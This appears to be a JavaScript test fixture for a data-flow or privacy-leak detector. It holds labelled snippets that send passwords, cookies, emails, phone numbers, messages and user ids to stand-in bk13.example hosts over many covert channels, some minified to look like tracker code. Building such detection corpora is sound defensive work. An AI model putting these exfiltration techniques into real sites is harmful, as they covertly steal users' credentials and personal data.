//# submitter-with-its-own-action
// flow: phone > swa.bk13.example via form
// no destination: plain.swa.bk13.example
// why: the action of the button that submits takes the place of the form's
const form1 = document.createElement('form');
form1.method = 'post';
form1.action = 'https://plain.swa.bk13.example/';
form1.innerHTML = '<input type="hidden" name="tel"><button formaction="https://swa.bk13.example/in">Go</button>';
form1.elements.tel.value = document.querySelector('input[type=tel]').value;
document.body.append(form1);
form1.requestSubmit(form1.querySelector('button'));

//# typed-style-map
// flow: identifier > tsm.bk13.example via css
document.querySelector('#hero').attributeStyleMap.set('background-image', `url("https://tsm.bk13.example/h.png?u=${localStorage.getItem('uid')}")`);

//# preconnect-to-a-made-host
// flow: identifier > {}.pmh.bk13.example via any
// why: the name of the host carries the id
const warm3 = document.createElement('link');
warm3.rel = 'preconnect';
warm3.href = `https://${localStorage.getItem('uid')}.pmh.bk13.example`;
document.head.append(warm3);

//# import-scripts-in-blob-worker
// flow: identifier > isb.bk13.example via any
!function(){var t="https://isb.bk13.example/w.js?u="+localStorage.getItem("uid"),e=new Blob(["importScripts("+JSON.stringify(t)+")"],{type:"text/javascript"});new Worker(URL.createObjectURL(e))}();

//# beacon-with-form-data-minified
// flow: email > bfd.bk13.example via beacon
!function(t,e){var n=new FormData;n.append("m",e),n.append("v","1"),navigator.sendBeacon&&navigator.sendBeacon(t,n)}("https://bfd.bk13.example/b",document.querySelector("input[type=email]").value);

//# webtransport-stream-in-compiled-awaiter
// flow: message > wsc.bk13.example via webtransport
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
function talk6(text) {
    return __awaiter(this, void 0, void 0, function* () {
        const wt = new WebTransport("https://wsc.bk13.example:4433/chat");
        yield wt.ready;
        const stream = yield wt.createBidirectionalStream();
        const writer = stream.writable.getWriter();
        yield writer.write(new TextEncoder().encode(text));
        yield writer.close();
    });
}
talk6(document.querySelector("textarea[name=message]").value);

//# event-source-subclass
// flow: search > ess.bk13.example via eventsource
class Results7 extends EventSource {
  constructor(q) { super(`https://ess.bk13.example/live?q=${encodeURIComponent(q)}`); }
}
new Results7(document.querySelector('input[type=search]').value).onmessage = (e) => console.log(e.data);

//# ice-servers-set-afterwards
// flow: identifier > isa.bk13.example via webrtc
// why: the servers are given after the connection was made, before it gathers
!function(){var e=new RTCPeerConnection;e.setConfiguration({iceServers:[{urls:"turn:isa.bk13.example:3478",username:localStorage.getItem("uid"),credential:"x"}]}),e.createDataChannel(""),e.createOffer().then(function(t){return e.setLocalDescription(t)})}();

//# location-of-a-frame
// flow: email > loa.bk13.example via any
const frame9 = document.createElement('iframe');
document.body.append(frame9);
frame9.contentWindow.location.replace('https://loa.bk13.example/s?e=' + encodeURIComponent(document.querySelector('input[type=email]').value));

//# embed-source
// flow: device > ems.bk13.example via any
const embed10 = document.createElement('embed');
embed10.type = 'image/svg+xml';
embed10.src = `https://ems.bk13.example/logo.svg?z=${Intl.DateTimeFormat().resolvedOptions().timeZone}`;
document.body.append(embed10);

//# image-button
// flow: identifier > imb.bk13.example via image
// why: an input of the type image loads its picture at once
const button11 = Object.assign(document.createElement('input'), { type: 'image', alt: 'Go' });
button11.src = 'https://imb.bk13.example/go.png?s=' + encodeURIComponent(document.cookie);
document.querySelector('form').append(button11);

//# path-of-the-page-assigned
// flow: search > self via navigation
document.querySelector('#find').onclick = () => {
  location.pathname = '/find/' + encodeURIComponent(document.querySelector('input[type=search]').value);
};

//# state-pushed-then-reloaded
// flow: search > self via navigation
// why: pushState alone asks for nothing, the reload asks for the new address
document.querySelector('#reload').addEventListener('click', () => {
  history.pushState({}, '', '/results?q=' + encodeURIComponent(document.querySelector('input[type=search]').value));
  location.reload();
});

//# opened-empty-then-sent-on
// flow: username > oet.bk13.example via any
document.querySelector('#sso').onclick = () => {
  const pop = window.open('about:blank', 'sso', 'width=400,height=500');
  pop.location = `https://oet.bk13.example/login?hint=${encodeURIComponent(document.querySelector('input[autocomplete=username]').value)}`;
};

//# xhr-subclass-minified
// flow: password > xsm.bk13.example via xhr
!function(){class t extends XMLHttpRequest{constructor(t){super(),this.open("POST",t),this.setRequestHeader("content-type","text/plain")}}new t("https://xsm.bk13.example/a").send(document.querySelector("input[type=password]").value)}();

//# link-with-ping-as-html
// flow: identifier > lwp.bk13.example via ping
document.querySelector('nav').innerHTML = '<a href="/offers" ping="https://lwp.bk13.example/out?u=' + localStorage.getItem('uid') + '">Offers</a>';

//# background-of-the-body
// flow: device > bob.bk13.example via any
// why: the old attribute loads a picture like the style does
!function(t,e){t.body.background="https://bob.bk13.example/bg.gif?"+[e.width,e.height,e.colorDepth].join("x")}(document,screen);

//# audio-with-source-child
// flow: device > awc.bk13.example via audio
!function(t,e){var n=document.createElement("audio"),r=document.createElement("source");r.type="audio/mpeg",r.src=t+"?ua="+encodeURIComponent(e),n.appendChild(r),n.preload="auto",n.load()}("https://awc.bk13.example/s.mp3",navigator.userAgent);

//# notification-icon
// flow: identifier > nic.bk13.example via any
// why: the notification itself stays here, its icon is loaded from the server
Notification.requestPermission().then((answer) => {
  if (answer === 'granted') new Notification('Welcome back', { icon: 'https://nic.bk13.example/i.png?u=' + localStorage.getItem('uid') });
});

//# background-fetch
// flow: message > bgf.bk13.example via any
navigator.serviceWorker.ready.then((reg) => reg.backgroundFetch.fetch('drafts', [
  new Request('https://bgf.bk13.example/d', { method: 'POST', body: document.querySelector('textarea[name=message]').value }),
]));

//# speculation-rules
// flow: search > spr.bk13.example via any
const rules21 = document.createElement('script');
rules21.type = 'speculationrules';
rules21.textContent = JSON.stringify({
  prefetch: [{ source: 'list', urls: ['https://spr.bk13.example/r?q=' + encodeURIComponent(document.querySelector('input[type=search]').value)] }],
});
document.head.append(rules21);

//# body-as-a-stream
// flow: address > bas.bk13.example via fetch
const street22 = document.querySelector('textarea[autocomplete=street-address]').value;
const body22 = new ReadableStream({
  start(controller) {
    controller.enqueue(new TextEncoder().encode(street22));
    controller.close();
  },
});
fetch('https://bas.bk13.example/a', { method: 'POST', body: body22, duplex: 'half' });

//# import-in-inline-module
// flow: identifier > iim.bk13.example via any
// why: the text of the script is what loads the other script
const inline23 = document.createElement('script');
inline23.type = 'module';
inline23.textContent = `import "https://iim.bk13.example/m.js?u=${encodeURIComponent(localStorage.getItem('uid'))}";`;
document.head.append(inline23);

//# audio-worklet-module
// flow: identifier > awm.bk13.example via any
const audio24 = new AudioContext();
audio24.audioWorklet.addModule('https://awm.bk13.example/p.js?v=' + sessionStorage.getItem('visitor'));

//# script-before-the-first-minified
// flow: phone > sbf.bk13.example via script
!function(t,e,n,r,i){(r=t.createElement(e)).async=1,r.src="https://sbf.bk13.example/c.js?"+n,(i=t.getElementsByTagName(e)[0]).parentNode.insertBefore(r,i)}(document,"script","t="+encodeURIComponent(document.querySelector("input[type=tel]").value));
